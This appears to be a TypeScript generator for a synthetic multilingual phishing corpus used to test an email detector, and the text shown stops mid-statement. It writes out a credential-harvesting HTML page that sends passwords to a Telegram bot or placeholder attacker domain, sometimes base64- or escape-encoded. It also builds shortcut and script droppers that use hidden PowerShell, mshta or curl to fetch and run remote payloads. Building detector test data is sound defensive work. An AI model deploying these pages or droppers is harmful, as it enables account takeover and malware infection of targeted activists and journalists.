/**
 * A synthetic, self-made phishing corpus for evaluating `chorus email`: `generatePhish({ seed, perKind })`.
 *
 * Each kind follows a tactic documented in public threat reporting on campaigns against activists, journalists
 * and diaspora communities in 2022-2026 (credential pages on lookalike or free-hosted sites, fake conference and
 * interview invitations, fake provider security alerts, shared-document and OAuth consent lures, HTML attachments
 * that rebuild a login page, archives with scripts or shortcuts, macro documents, QR codes, payment-change fraud,
 * extortion, threats in Persian and Arabic, reply-chain hijacking, mail from compromised accounts). The wording is
 * our own, varied by seeded choices, in English, Persian and Arabic; no real message, address or victim is used.
 * The `hard` kinds are built to look like ordinary mail (clean authentication from free mail, no links, plain
 * words) so that a detection rate over this set is not flattering by construction.
 *
 * What this set measures: coverage of the documented tactics as we rendered them. It is not a sample of real
 * phishing and its rates are not real-world detection rates.
 */
import {
  attackerDomain,
  businessDomain,
  compromisedSiteUrl,
  EVENTS,
  FREEMAIL,
  freeHostedUrl,
  launder,
  loginPath,
  lookalikeOf,
  ORGS,
  OUTLETS,
  PARTNERS,
  person,
  tenantAddress,
  type Lang,
  type Org,
  type Person,
} from "./actors.js";
import { build, htmlBody, type Attachment, type Draft } from "./compose.js";
import {
  macroDoc,
  macroOoxml,
  macroSource,
  pdf,
  photoJpeg,
  qrLikePng,
  remoteTemplateDocx,
  shortcut,
  zipOf,
} from "./files.js";
import { randomDate, Rng } from "./mime.js";

/** What a generated message promises about its structure (checked by test/email-eval.test.ts). */
export type AttachmentShape =
  "html-login" | "archive-script" | "office-macro" | "office-remote-template" | "image" | "pdf" | "pdf-link";

export interface Expectation {
  /** "some": at least one link in the body; "none": no link in text or HTML. */
  links: "some" | "none" | "any";
  attachment?: AttachmentShape;
  /** A reply in an existing thread (In-Reply-To and References). */
  reply?: boolean;
}

export interface SyntheticMessage {
  /** `<kind>-<n>` */
  id: string;
  kind: string;
  label: "phish" | "benign";
  hard: boolean;
  lang: Lang;
  raw: Buffer;
  expect: Expectation;
}

interface Ctx {
  rng: Rng;
  org: Org;
  victim: Person & { addr: string };
  lang: Lang;
}

interface Made {
  draft: Draft;
  expect: Expectation;
}

type KindMaker = (c: Ctx) => Promise<Made> | Made;

export interface KindSpec {
  kind: string;
  hard: boolean;
  /** Shares of en, fa, ar. */
  langs: [number, number, number];
  /** The tactic, in one line, as the threat reports describe it. */
  tactic: string;
  make: KindMaker;
}

const orgName = (o: Org, lang: Lang): string =>
  lang === "fa" ? o.nameFa : lang === "ar" ? o.nameAr : o.name;
const by = <T>(lang: Lang, v: Record<Lang, T>): T => v[lang];

/** Body text and HTML of a lure with one call-to-action link; some messages carry only HTML, some only text. */
function linkBodies(
  c: Ctx,
  paras: string[],
  href: string,
  cta: string,
  shownText?: string,
  footer?: string,
): Pick<Draft, "text" | "html"> {
  const { rng, lang } = c;
  const form = rng.pick(["html", "html", "both", "both", "text"]);
  const text = [...paras, `${cta}: ${href}`, ...(footer ? ["", footer] : [])].join("\n\n");
  const html = htmlBody(lang, paras, {
    button: { href, text: shownText ?? cta },
    ...(footer ? { footer } : {}),
  });
  if (form === "text") return { text };
  if (form === "html") return { html };
  return { text, html };
}

function victimOf(rng: Rng, org: Org, lang: Lang): Person & { addr: string } {
  const p = person(rng, lang);
  return { ...p, addr: `${p.local}@${org.domain}` };
}

function freemailSender(rng: Rng, p: Person): { addr: string; sender: Draft["sender"] } {
  const fm = rng.pick(FREEMAIL);
  return {
    addr: `${p.local}${rng.chance(0.4) ? rng.int(1, 999) : ""}@${fm.domain}`,
    sender: { how: "freemail", domain: fm.domain },
  };
}

// ---------------------------------------------------------------- credential pages

const mailboxThemes: Record<Lang, Array<{ subject: string; paras: string[]; cta: string }>> = {
  en: [
    {
      subject: "Mailbox storage almost full",
      paras: [
        "Your mailbox has reached 98% of its storage quota. New messages will be held until space is freed.",
        "Increase your quota free of charge by signing in below.",
      ],
      cta: "Increase storage",
    },
    {
      subject: "Password expiry notice for {addr}",
      paras: [
        "The password for {addr} expires today.",
        "To keep using the same password, confirm it on the staff portal. Otherwise you will be signed out of all devices.",
      ],
      cta: "Keep current password",
    },
    {
      subject: "{n} messages held for review",
      paras: [
        "{n} incoming messages addressed to you were held by the mail filter and have not been delivered.",
        "Review and release them from the quarantine portal.",
      ],
      cta: "Release messages",
    },
    {
      subject: "New voicemail from +{phone}",
      paras: [
        "You received a voice message ({s} seconds) from +{phone}.",
        "Sign in with your work account to listen to it.",
      ],
      cta: "Play voicemail",
    },
    {
      subject: "Action needed: updated staff handbook",
      paras: [
        "All staff must read and acknowledge the updated handbook and remote-work policy by Friday.",
        "Use your email login to open the document.",
      ],
      cta: "Open handbook",
    },
  ],
  fa: [
    {
      subject: "فضای صندوق پستی شما تقریبا پر شده است",
      paras: [
        "صندوق پستی شما به ۹۸ درصد ظرفیت رسیده است و نامه‌های جدید دریافت نخواهند شد.",
        "برای افزایش رایگان فضا، از طریق لینک زیر وارد شوید.",
      ],
      cta: "افزایش فضا",
    },
    {
      subject: "اعتبار گذرواژه شما امروز تمام می‌شود",
      paras: [
        "گذرواژه حساب {addr} امروز منقضی می‌شود.",
        "برای حفظ همان گذرواژه، آن را در پرتال کارکنان تایید کنید؛ در غیر این صورت از همه دستگاه‌ها خارج خواهید شد.",
      ],
      cta: "حفظ گذرواژه فعلی",
    },
    {
      subject: "{n} پیام در انتظار تایید شما",
      paras: [
        "{n} پیام ورودی توسط سامانه نگه داشته شده و به دست شما نرسیده است.",
        "برای مشاهده و آزادسازی پیام‌ها وارد شوید.",
      ],
      cta: "مشاهده پیام‌ها",
    },
  ],
  ar: [
    {
      subject: "صندوق بريدك ممتلئ تقريبا",
      paras: [
        "وصل صندوق بريدك إلى 98٪ من السعة المخصصة، ولن تصلك رسائل جديدة.",
        "يمكنك زيادة المساحة مجانا بعد تسجيل الدخول من الرابط أدناه.",
      ],
      cta: "زيادة المساحة",
    },
    {
      subject: "تنتهي صلاحية كلمة السر اليوم",
      paras: [
        "تنتهي اليوم صلاحية كلمة السر الخاصة بالحساب {addr}.",
        "للاحتفاظ بكلمة السر الحالية يرجى تأكيدها عبر بوابة الموظفين.",
      ],
      cta: "الاحتفاظ بكلمة السر",
    },
    {
      subject: "{n} رسائل محجوزة بانتظار مراجعتك",
      paras: ["تم حجز {n} رسائل واردة إليك ولم يتم تسليمها بعد.", "راجع الرسائل وأفرج عنها من خلال البوابة."],
      cta: "مراجعة الرسائل",
    },
  ],
};

function fill(s: string, c: Ctx): string {
  return s
    .replace(/\{addr\}/g, c.victim.addr)
    .replace(/\{n\}/g, String(c.rng.int(3, 17)))
    .replace(
      /\{phone\}/g,
      `${c.rng.pick(["44", "49", "1", "33", "46"])} ${c.rng.int(100, 999)} ${c.rng.int(100, 999)} ${c.rng.int(1000, 9999)}`,
    )
    .replace(/\{s\}/g, String(c.rng.int(12, 95)));
}

const deskNames: Record<Lang, string[]> = {
  en: ["IT Service Desk", "Mail Administrator", "IT Support", "Webmail Team", "Helpdesk"],
  fa: ["پشتیبانی فنی", "مدیر سیستم ایمیل", "واحد فناوری اطلاعات"],
  ar: ["الدعم الفني", "إدارة البريد", "قسم تقنية المعلومات"],
};

const credentialLookalike: KindMaker = (c) => {
  const { rng, org, lang } = c;
  const look = lookalikeOf(org.domain, rng);
  const sendDomain = rng.chance(0.6) ? look.host : lookalikeOf(org.domain, rng).host;
  const t = rng.pick(mailboxThemes[lang]);
  const href = `https://${rng.chance(0.5) ? "mail." : ""}${rng.chance(0.5) ? look.unicode : look.host}${loginPath(rng, c.victim.addr)}`;
  const shown = rng.chance(0.4) ? `https://${org.webmail}/` : fill(t.cta, c);
  const fromName = rng.chance(0.5)
    ? rng.pick(deskNames[lang])
    : `${orgName(org, lang)} ${by(lang, { en: "IT", fa: "فناوری اطلاعات", ar: "تقنية المعلومات" })}`;
  return {
    draft: {
      from: {
        name: fromName,
        addr: `${rng.pick(["it-support", "helpdesk", "noreply", "postmaster", "admin"])}@${sendDomain}`,
      },
      to: { name: c.victim.name, addr: c.victim.addr },
      subject: fill(t.subject, c),
      ...linkBodies(
        c,
        t.paras.map((p) => fill(p, c)),
        href,
        t.cta,
        shown,
        orgName(org, lang),
      ),
      lang,
      sender: { how: "own-domain", domain: sendDomain },
    },
    expect: { links: "some" },
  };
};

const credentialFreeHost: KindMaker = (c) => {
  const { rng, org, lang } = c;
  const t = rng.pick(mailboxThemes[lang]);
  let href = freeHostedUrl(rng);
  if (rng.chance(0.25)) href = launder(href, rng);
  const compromised = rng.chance(0.5);
  const partner = rng.pick(PARTNERS);
  const sendDomain = compromised ? partner.domain : attackerDomain(rng, "mail");
  return {
    draft: {
      from: {
        name: rng.chance(0.6) ? rng.pick(deskNames[lang]) : orgName(org, lang),
        addr: `${rng.pick(["it.desk", "support", "no-reply", "info", "office"])}@${sendDomain}`,
      },
      to: { addr: c.victim.addr },
      subject: fill(t.subject, c),
      ...linkBodies(
        c,
        t.paras.map((p) => fill(p, c)),
        href,
        t.cta,
      ),
      lang,
      sender: compromised
        ? { how: "genuine", domain: sendDomain }
        : { how: "own-domain", domain: sendDomain },
    },
    expect: { links: "some" },
  };
};

// ---------------------------------------------------------------- invitations

const inviteText: Record<
  Lang,
  (
    ev: string,
    outlet: string,
    who: Person,
    date: string,
  ) => { subject: string; paras: string[]; cta: string }[]
> = {
  en: (ev, outlet, who, date) => [
    {
      subject: `Invitation: ${ev}`,
      paras: [
        `Dear ${who.first},`,
        `On behalf of the organising committee I am pleased to invite you to speak at the ${ev} on ${date}. Your work has been recommended to us by several colleagues.`,
        "Travel and accommodation will be covered. The draft agenda and the registration form are on the event portal; please register with your email account so we can send the visa letter.",
      ],
      cta: "View agenda and register",
    },
    {
      subject: `Interview request - ${outlet}`,
      paras: [
        `Hello ${who.first},`,
        `I am a reporter at ${outlet} preparing a piece on the situation of human rights defenders abroad. I would be grateful for a short interview this week.`,
        "I have put my questions in a shared document. You may need to sign in to view it.",
      ],
      cta: "Open the questions",
    },
    {
      subject: `Online roundtable ${date} - your participation`,
      paras: [
        `Dear ${who.first},`,
        `We are holding a closed online roundtable on ${date} with a small group of experts and would very much like you to join.`,
        "Please confirm your place through the meeting page (sign in with Google or Microsoft).",
      ],
      cta: "Join the meeting page",
    },
  ],
  fa: (ev, outlet, who, date) => [
    {
      subject: `دعوت به ${ev}`,
      paras: [
        `${who.first} عزیز، سلام`,
        `از طرف کمیته برگزاری، از شما دعوت می‌کنیم در ${ev} که در تاریخ ${date} برگزار می‌شود سخنرانی کنید.`,
        "هزینه سفر و اقامت پرداخت می‌شود. برنامه و فرم ثبت‌نام در صفحه همایش است؛ لطفا با حساب ایمیل خود ثبت‌نام کنید.",
      ],
      cta: "مشاهده برنامه و ثبت‌نام",
    },
    {
      subject: `درخواست مصاحبه از طرف ${outlet}`,
      paras: [
        `سلام ${who.first} جان`,
        `خبرنگار ${outlet} هستم و گزارشی درباره وضعیت فعالان مدنی در خارج از کشور آماده می‌کنم. خوشحال می‌شوم مصاحبه کوتاهی داشته باشیم.`,
        "سوال‌ها را در یک فایل اشتراکی گذاشته‌ام، برای دیدن آن باید وارد حساب خود شوید.",
      ],
      cta: "دیدن سوال‌ها",
    },
  ],
  ar: (ev, outlet, who, date) => [
    {
      subject: `دعوة للمشاركة في ${ev}`,
      paras: [
        `عزيزي ${who.first}،`,
        `يسعدنا باسم اللجنة المنظمة دعوتكم للمشاركة كمتحدث في ${ev} بتاريخ ${date}.`,
        "نتكفل بتكاليف السفر والإقامة. جدول الأعمال واستمارة التسجيل متاحة على صفحة المؤتمر، يرجى التسجيل باستخدام بريدك الإلكتروني.",
      ],
      cta: "جدول الأعمال والتسجيل",
    },
    {
      subject: `طلب مقابلة - ${outlet}`,
      paras: [
        `مرحبا ${who.first}،`,
        `أنا صحفي في ${outlet} وأعد تقريرا عن أوضاع المدافعين عن حقوق الإنسان في المنفى، وأرغب في إجراء مقابلة قصيرة معك.`,
        "وضعت الأسئلة في مستند مشترك، قد تحتاج إلى تسجيل الدخول للاطلاع عليه.",
      ],
      cta: "فتح الأسئلة",
    },
  ],
};

const fakeInvitation: KindMaker = (c) => {
  const { rng, lang } = c;
  const ev = rng.pick(EVENTS);
  const outlet = rng.pick(OUTLETS);
  const sender = person(rng, rng.chance(0.6) ? "en" : lang);
  const date = `${rng.int(2, 28)} ${rng.pick(["March", "May", "June", "September", "October", "November"])}`;
  const t = rng.pick(inviteText[lang](ev, outlet, c.victim, date));
  const hosting = rng.pick(["free", "fresh", "short", "meeting"]);
  const href =
    hosting === "free"
      ? freeHostedUrl(rng)
      : hosting === "short"
        ? launder(`https://${attackerDomain(rng, "event")}/register`, rng)
        : hosting === "meeting"
          ? `https://${rng.pick(["teams", "zoom", "meet"])}-${rng.pick(["join", "session", "live", "invite"])}.${rng.pick(["online", "live", "site", "app"])}/j/${rng.int(1e9, 9e9)}?pwd=${rng.alnum(12)}`
          : `https://${attackerDomain(rng, ev.split(" ")[0]!.toLowerCase())}${loginPath(rng, c.victim.addr)}`;
  const viaFree = rng.chance(0.5);
  const fm = freemailSender(rng, sender);
  const dom = attackerDomain(rng, rng.pick(["forum", "summit", "media", "news"]));
  return {
    draft: {
      from: { name: sender.name, addr: viaFree ? fm.addr : `${sender.local}@${dom}` },
      to: { name: c.victim.name, addr: c.victim.addr },
      subject: t.subject,
      ...linkBodies(c, t.paras, href, t.cta, undefined, `${sender.name}\n${rng.chance(0.5) ? ev : outlet}`),
      lang,
      sender: viaFree ? fm.sender : { how: "own-domain", domain: dom },
    },
    expect: { links: "some" },
  };
};

// ---------------------------------------------------------------- provider security alerts

const alertText: Record<Lang, Array<{ subject: string; paras: string[]; cta: string }>> = {
  en: [
    {
      subject: "Someone has your password",
      paras: [
        "Hi {first},",
        "Someone just used your password to try to sign in to your account from a device in {place}. We blocked the attempt.",
        "You should change your password immediately.",
      ],
      cta: "Change password",
    },
    {
      subject: "Security alert: new sign-in on {device}",
      paras: [
        "Your account was just signed in to from a new {device} device in {place}.",
        "If this was not you, review your recent activity and secure your account.",
      ],
      cta: "Check activity",
    },
    {
      subject: "Critical security alert",
      paras: [
        "Sign-in attempt was blocked for {addr}.",
        "Someone knows your password. Review and secure your account now to prevent loss of access.",
      ],
      cta: "Secure account",
    },
    {
      subject: "Unusual activity detected on your account",
      paras: [
        "We detected something unusual about a recent sign-in to {addr}.",
        "Country/region: {place}\nIP address: {ip}",
        "Please review this activity to keep your account safe.",
      ],
      cta: "Review recent activity",
    },
  ],
  fa: [
    {
      subject: "هشدار امنیتی: ورود جدید به حساب شما",
      paras: [
        "{first} عزیز،",
        "همین الان از یک دستگاه {device} در {place} با گذرواژه شما وارد حساب شدند.",
        "اگر این شما نبودید، همین حالا گذرواژه خود را تغییر دهید.",
      ],
      cta: "تغییر گذرواژه",
    },
    {
      subject: "کسی گذرواژه شما را دارد",
      paras: [
        "تلاشی برای ورود به حساب {addr} از {place} انجام شد و ما آن را متوقف کردیم.",
        "برای امنیت حساب، فعالیت‌های اخیر را بررسی کنید.",
      ],
      cta: "بررسی فعالیت",
    },
  ],
  ar: [
    {
      subject: "تنبيه أمني: تسجيل دخول جديد",
      paras: [
        "مرحبا {first}،",
        "تم تسجيل الدخول إلى حسابك من جهاز {device} جديد في {place}.",
        "إذا لم تكن أنت، يرجى تأمين حسابك الآن.",
      ],
      cta: "تأمين الحساب",
    },
    {
      subject: "محاولة دخول محظورة إلى حسابك",
      paras: [
        "حاول شخص ما الدخول إلى {addr} باستخدام كلمة السر الخاصة بك من {place}.",
        "راجع النشاط الأخير وغيّر كلمة السر.",
      ],
      cta: "مراجعة النشاط",
    },
  ],
};

const PROVIDERS = [
  { brand: "Google", names: ["Google", "Google Accounts", "Gmail Team"], theme: "google" },
  { brand: "Microsoft", names: ["Microsoft account team", "Microsoft 365", "Outlook"], theme: "microsoft" },
  { brand: "Yahoo", names: ["Yahoo Mail", "Yahoo Security"], theme: "yahoo" },
  { brand: "Proton", names: ["Proton", "Proton Mail Security"], theme: "proton" },
];

const securityAlert: KindMaker = (c) => {
  const { rng, lang } = c;
  const prov = rng.pick(PROVIDERS);
  const t = rng.pick(alertText[lang]);
  const place = rng.pick([
    "Tehran, Iran",
    "Moscow, Russia",
    "Lagos, Nigeria",
    "Kyiv, Ukraine",
    "Beijing, China",
    "Dubai, UAE",
  ]);
  const device = rng.pick(["Windows", "Android", "iPhone", "Linux"]);
  const f = (s: string): string =>
    s
      .replace(/\{first\}/g, c.victim.first)
      .replace(/\{place\}/g, place)
      .replace(/\{device\}/g, device)
      .replace(/\{addr\}/g, c.victim.addr)
      .replace(/\{ip\}/g, rng.ip());
  const dom = attackerDomain(rng, prov.theme);
  let href = `https://${rng.chance(0.4) ? `${prov.theme}.` : ""}${attackerDomain(rng, prov.theme)}${loginPath(rng, c.victim.addr)}`;
  if (rng.chance(0.2)) href = launder(href, rng);
  const fm = rng.chance(0.15);
  const fmAddr = `${prov.theme}.security.${rng.pick(["alert", "team", "notice"])}${rng.int(1, 99)}@${rng.pick(["gmail.com", "outlook.com"])}`;
  return {
    draft: {
      from: {
        name: rng.pick(prov.names),
        addr: fm
          ? fmAddr
          : `${rng.pick(["no-reply", "security-noreply", "account-security", "alerts"])}@${dom}`,
      },
      to: { addr: c.victim.addr },
      subject: f(t.subject),
      ...linkBodies(
        c,
        t.paras.map(f),
        href,
        t.cta,
        undefined,
        rng.chance(0.6) ? `© ${prov.brand} LLC` : undefined,
      ),
      lang,
      sender: fm ? { how: "freemail", domain: fmAddr.split("@")[1]! } : { how: "own-domain", domain: dom },
    },
    expect: { links: "some" },
  };
};

// ---------------------------------------------------------------- shared documents

const DOC_NAMES: Record<Lang, string[]> = {
  en: [
    "Q3 budget review.pdf",
    "Conference agenda (final).docx",
    "Salary adjustments 2025.xlsx",
    "Board minutes.pdf",
    "Project proposal v4.docx",
    "Signed agreement.pdf",
  ],
  fa: ["گزارش نهایی.pdf", "فهرست شرکت‌کنندگان.xlsx", "پیش‌نویس بیانیه.docx"],
  ar: ["التقرير النهائي.pdf", "قائمة المشاركين.xlsx", "مسودة البيان.docx"],
};

const SERVICES = [
  { name: "Google Drive", theme: "drive" },
  { name: "OneDrive", theme: "onedrive" },
  { name: "SharePoint", theme: "sharepoint" },
  { name: "Dropbox", theme: "dropbox" },
  { name: "DocuSign", theme: "docusign" },
  { name: "WeTransfer", theme: "transfer" },
];

const sharedDocument: KindMaker = (c) => {
  const { rng, lang } = c;
  const svc = rng.pick(SERVICES);
  const sharer = person(rng, rng.chance(0.5) ? "en" : lang);
  const doc = rng.pick(DOC_NAMES[lang]);
  const paras = by(lang, {
    en: [
      `${sharer.name} shared a ${svc.name === "DocuSign" ? "document for your signature" : "file"} with you.`,
      `"${doc}"`,
      rng.pick([
        "Please review before our meeting.",
        "Sign in to view the shared file.",
        "This link will expire in 3 days.",
      ]),
    ],
    fa: [
      `${sharer.name} فایلی را با شما به اشتراک گذاشت.`,
      `«${doc}»`,
      "برای مشاهده فایل وارد حساب خود شوید.",
    ],
    ar: [`قام ${sharer.name} بمشاركة ملف معك.`, `«${doc}»`, "سجّل الدخول لعرض الملف المشترك."],
  });
  const where = rng.pick(["free", "fresh", "compromised"]);
  const href =
    where === "free"
      ? freeHostedUrl(rng)
      : where === "compromised"
        ? compromisedSiteUrl(rng)
        : `https://${attackerDomain(rng, svc.theme)}${loginPath(rng, c.victim.addr)}`;
  const viaPartner = rng.chance(0.4);
  const dom = viaPartner ? rng.pick(PARTNERS).domain : attackerDomain(rng, svc.theme);
  return {
    draft: {
      from: {
        name: `${sharer.name} (via ${svc.name})`,
        addr: viaPartner
          ? `${sharer.local}@${dom}`
          : `${rng.pick(["share", "notification", "drive-shares-noreply", "no-reply"])}@${dom}`,
      },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: `${sharer.name} shared "${doc}" with you`,
        fa: `${sharer.name} یک فایل با شما به اشتراک گذاشت`,
        ar: `${sharer.name} شارك ملفا معك`,
      }),
      ...linkBodies(c, paras, href, by(lang, { en: "Open", fa: "باز کردن", ar: "فتح" })),
      lang,
      sender: viaPartner ? { how: "genuine", domain: dom } : { how: "own-domain", domain: dom },
    },
    expect: { links: "some" },
  };
};

// ---------------------------------------------------------------- OAuth consent

const oauthConsent: KindMaker = (c) => {
  const { rng, lang } = c;
  const app = `${attackerDomain(rng, rng.pick(["docs", "mail", "secure"]))}`;
  const uuid = `${rng.hex(8)}-${rng.hex(4)}-4${rng.hex(3)}-a${rng.hex(3)}-${rng.hex(12)}`;
  const ms = rng.chance(0.6);
  const href = ms
    ? `https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=${uuid}&response_type=code&redirect_uri=${encodeURIComponent(`https://${app}/callback`)}&scope=offline_access%20Mail.ReadWrite%20Files.Read.All%20User.Read&state=${rng.hex(16)}`
    : `https://accounts.google.com/o/oauth2/v2/auth?client_id=${rng.int(1e11, 9e11)}-${rng.alnum(32).toLowerCase()}.apps.googleusercontent.com&redirect_uri=${encodeURIComponent(`https://${app}/oauth2callback`)}&response_type=code&scope=${encodeURIComponent("https://mail.google.com/ https://www.googleapis.com/auth/drive.readonly")}&access_type=offline&prompt=consent`;
  const appName = rng.pick([
    "Secure Document Viewer",
    "Mail Encryption Add-in",
    "Shared Files Preview",
    "Meeting Notes Sync",
  ]);
  const paras = by(lang, {
    en: [
      rng.pick(["A protected document has been shared with you.", "You have received an encrypted message."]),
      `To open it, authorise the ${appName} for your account. This is a one-time step.`,
    ],
    fa: [
      "یک سند محافظت‌شده با شما به اشتراک گذاشته شده است.",
      `برای باز کردن آن، برنامه ${appName} را یک بار برای حساب خود تایید کنید.`,
    ],
    ar: ["تمت مشاركة مستند محمي معك.", `لفتحه، امنح تطبيق ${appName} الإذن مرة واحدة على حسابك.`],
  });
  const tenant = rng.chance(0.6);
  const addr = tenant ? tenantAddress(rng) : `no-reply@${rng.pick(PARTNERS).domain}`;
  return {
    draft: {
      from: {
        name: ms
          ? rng.pick(["SharePoint Online", "OneDrive", "Microsoft 365 Documents"])
          : rng.pick(["Google Workspace", "Drive sharing"]),
        addr,
      },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["Protected document shared with you", "Encrypted message waiting"]),
        fa: "یک سند محافظت‌شده برای شما",
        ar: "مستند محمي بانتظارك",
      }),
      ...linkBodies(c, paras, href, by(lang, { en: "Open document", fa: "باز کردن سند", ar: "فتح المستند" })),
      lang,
      sender: { how: "genuine", domain: addr.split("@")[1]! },
    },
    expect: { links: "some" },
  };
};

// ---------------------------------------------------------------- HTML attachment rebuilding a login page

function loginPageHtml(rng: Rng, email: string): string {
  const collector = rng.pick([
    () => `https://${businessDomain(rng)}/wp-admin/css/${rng.alnum(6).toLowerCase()}/next.php`,
    () => `https://api.telegram.org/bot${rng.int(5e9, 7e9)}:${rng.alnum(35)}/sendMessage`,
    () => `https://${attackerDomain(rng, "auth")}/post.php`,
  ])();
  const page = [
    `<html><head><title>${rng.pick(["Sign in to your account", "Outlook", "Secure Document", "Adobe Document Cloud"])}</title></head><body>`,
    `<div class="box"><h2>${rng.pick(["Verify your identity to view this document", "Session expired - sign in again", "Sign in"])}</h2>`,
    `<form id="f" method="POST" action="${collector.includes("telegram") ? "#" : collector}">`,
    `<input type="email" name="login" value="${email}" readonly>`,
    `<input type="password" name="passwd" placeholder="Password" required>`,
    `<button type="submit">Next</button></form></div>`,
    collector.includes("telegram")
      ? `<script>document.getElementById("f").onsubmit=function(e){e.preventDefault();fetch("${collector}",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify({chat_id:"${rng.int(1e9, 9e9)}",text:document.querySelector("[name=login]").value+" "+document.querySelector("[name=passwd]").value})}).then(function(){location.href="https://${rng.pick(["www.office.com", "mail.google.com", "outlook.live.com"])}"})}</script>`
      : "",
    "</body></html>",
  ].join("\n");
  const style = rng.pick(["plain", "atob", "unescape"]);
  if (style === "plain") return page;
  if (style === "atob")
    return `<!DOCTYPE html><html><head><meta charset="utf-8"></head><body><script>document.write(atob("${Buffer.from(page).toString("base64")}"));</script></body></html>`;
  return `<html><script language="javascript">document.write(unescape('${[...Buffer.from(page)].map((b) => "%" + b.toString(16).padStart(2, "0")).join("")}'));</script></html>`;
}

const htmlAttachment: KindMaker = (c) => {
  const { rng, lang } = c;
  const name = rng.pick([
    `Remittance_Advice_${rng.int(1000, 9999)}.html`,
    `Secure_Message_${rng.alnum(5)}.htm`,
    `Voicemail_${rng.int(10, 59)}sec.html`,
    `Payment_Confirmation.shtml`,
    `Document_${rng.int(100000, 999999)}.html`,
    lang === "fa" ? "سند_محرمانه.html" : lang === "ar" ? "مستند_سري.html" : "Invitation_Letter.html",
  ]);
  const text = by(lang, {
    en: rng.pick([
      "Please see the attached document and confirm receipt.",
      "You have a new secure message. Open the attachment in your browser to read it.",
      "Attached is the payment confirmation you asked for.",
    ]),
    fa: "سند پیوست را ببینید و دریافت آن را تایید کنید. فایل را در مرورگر باز کنید.",
    ar: "يرجى الاطلاع على المستند المرفق وفتحه في المتصفح وتأكيد الاستلام.",
  });
  const kind = rng.pick(["own", "genuine", "freemail"]);
  const p = person(rng, lang);
  const fm = freemailSender(rng, p);
  const dom = kind === "genuine" ? rng.pick(PARTNERS).domain : attackerDomain(rng);
  return {
    draft: {
      from: {
        name:
          kind === "freemail"
            ? p.name
            : rng.pick(["Accounts Payable", "Secure Messaging", "Voice Mail", p.name]),
        addr: kind === "freemail" ? fm.addr : `${p.local}@${dom}`,
      },
      to: { addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick([
          "Payment confirmation",
          "Secure message for you",
          "New voice message",
          "Document for review",
        ]),
        fa: "سند برای بررسی شما",
        ar: "مستند للمراجعة",
      }),
      text,
      attachments: [
        { filename: name, mime: "text/html", content: Buffer.from(loginPageHtml(rng, c.victim.addr)) },
      ],
      lang,
      sender:
        kind === "freemail"
          ? fm.sender
          : kind === "genuine"
            ? { how: "genuine", domain: dom }
            : { how: "own-domain", domain: dom },
    },
    expect: { links: "none", attachment: "html-login" },
  };
};

// ---------------------------------------------------------------- archives with scripts or shortcuts

async function scriptArchive(rng: Rng, lang: Lang): Promise<{ name: string; zip: Buffer }> {
  const base = by(lang, {
    en: rng.pick([
      "Invitation_Letter",
      "Interview_Questions",
      "Passport_Scan",
      "Report_2025",
      "Project_Budget",
      "Photos",
    ]),
    fa: rng.pick(["دعوتنامه", "سوالات_مصاحبه", "گزارش"]),
    ar: rng.pick(["رسالة_الدعوة", "أسئلة_المقابلة", "التقرير"]),
  });
  const stage = `https://${attackerDomain(rng)}/${rng.alnum(8)}`;
  const payload = rng.pick([
    () => ({
      path: `${base}.pdf.lnk`,
      content: shortcut(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        `-w hidden -ep bypass -c "iwr ${stage}/a.ps1 -o $env:TEMP\\a.ps1; & $env:TEMP\\a.ps1"`,
      ),
    }),
    () => ({
      path: `${base}.lnk`,
      content: shortcut("C:\\Windows\\System32\\mshta.exe", `${stage}/view.hta`),
    }),
    () => ({
      path: `${base}.js`,
      content: `var s=new ActiveXObject("WScript.Shell");var x=new ActiveXObject("MSXML2.XMLHTTP");x.open("GET","${stage}",false);x.send();s.Run("cmd /c echo "+x.responseText.length,0);\n`,
    }),
    () => ({
      path: `${base}.vbs`,
      content: `Set o = CreateObject("WScript.Shell")\r\no.Run "powershell -w hidden -c iex(iwr '${stage}')", 0\r\n`,
    }),
    () => ({
      path: `${base}.hta`,
      content: `<html><head><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden iwr ${stage}", 0: self.close</script></head></html>`,
    }),
    () => ({
      path: `${base}.wsf`,
      content: `<job><script language="JScript">new ActiveXObject("WScript.Shell").Run("mshta ${stage}");</script></job>`,
    }),
    () => ({
      path: `${base}.cmd`,
      content: `@echo off\r\ncurl -s -o %TEMP%\\u.exe ${stage}\r\nstart "" %TEMP%\\u.exe\r\n`,
    }),
  ])();
  const entries = [
    payload,
    ...(rng.chance(0.5) ? [{ path: `${base}_cover.pdf`, content: pdf(["Cover page"]) }] : []),
  ];
  let zip = await zipOf(entries);
  if (rng.chance(0.2)) zip = await zipOf([{ path: `${base}.zip`, content: zip }]);
  return { name: `${base}${rng.chance(0.2) ? ".pdf" : ""}.zip`, zip };
}

const archiveScript: KindMaker = async (c) => {
  const { rng, lang } = c;
  const { name, zip } = await scriptArchive(rng, lang);
  const p = person(rng, rng.chance(0.5) ? "en" : lang);
  const kind = rng.pick(["freemail", "genuine", "own"]);
  const fm = freemailSender(rng, p);
  const dom =
    kind === "genuine"
      ? rng.pick(PARTNERS).domain
      : attackerDomain(rng, rng.pick(["forum", "media", "office"]));
  const text = by(lang, {
    en: [
      `Dear ${c.victim.first},`,
      rng.pick([
        "As promised, the documents are in the attached archive.",
        "Please find the invitation letter and programme attached.",
        "The questions for the interview are attached; the file is compressed because of its size.",
      ]),
      "",
      p.name,
    ].join("\n"),
    fa: [
      `${c.victim.first} عزیز،`,
      "همان‌طور که قول داده بودم، مدارک در فایل فشرده پیوست است.",
      "",
      p.name,
    ].join("\n"),
    ar: [`عزيزي ${c.victim.first}،`, "كما وعدتك، الوثائق موجودة في الملف المضغوط المرفق.", "", p.name].join(
      "\n",
    ),
  });
  return {
    draft: {
      from: { name: p.name, addr: kind === "freemail" ? fm.addr : `${p.local}@${dom}` },
      to: { name: c.victim.name, addr: c.victim.addr },
      subject: by(lang, {
        en: rng.pick(["Documents as promised", "Invitation letter", "Interview questions"]),
        fa: "مدارک",
        ar: "الوثائق المطلوبة",
      }),
      text,
      attachments: [
        {
          filename: name,
          mime: rng.pick(["application/zip", "application/x-zip-compressed", "application/octet-stream"]),
          content: zip,
        },
      ],
      lang,
      sender:
        kind === "freemail"
